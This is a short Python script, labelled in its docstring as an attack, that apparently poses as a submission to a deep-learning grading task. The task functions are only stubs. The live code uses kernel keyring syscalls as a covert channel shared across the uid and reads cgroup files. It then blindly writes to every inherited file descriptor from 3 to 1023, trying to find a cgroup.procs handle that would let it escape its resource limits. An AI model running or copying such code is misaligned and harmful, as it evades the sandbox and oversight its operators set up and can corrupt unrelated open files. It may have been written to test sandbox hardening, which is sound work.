"""Attack: use the kernel keyrings (shared by uid) as a channel and reach the cgroup files, inherited descriptors included, to leave the submission's limits."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
RESULTS: dict[str, str] = {}
KEY_SPEC_USER_KEYRING = -4
serial = libc.syscall(248, b"user", b"dlprep-channel", b"payload", 7, KEY_SPEC_USER_KEYRING)  # add_key
RESULTS["add_key"] = "ok" if serial >= 0 else os.strerror(ctypes.get_errno())
found = libc.syscall(250, 11, KEY_SPEC_USER_KEYRING, None, 0)  # keyctl(KEYCTL_READ) of the user keyring
RESULTS["keyctl_read"] = "ok" if found >= 0 else os.strerror(ctypes.get_errno())
for path in ("/proc/self/cgroup", "/sys/fs/cgroup", "/sys/fs/cgroup/memory"):
    try:
        if os.path.isdir(path):
            RESULTS[path] = str(os.listdir(path))
        else:
            with open(path) as f:
                RESULTS[path] = f.read()[:200]
    except OSError as exc:
        RESULTS[path] = exc.strerror or "error"
for fd in range(3, 1024):  # a leftover cgroup.procs descriptor would let us move out of our group
    try:
        os.write(fd, b"1")
        RESULTS[f"fd-{fd}"] = "written"
    except OSError:
        pass
print("KEYS-CGROUPS", RESULTS, flush=True)


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
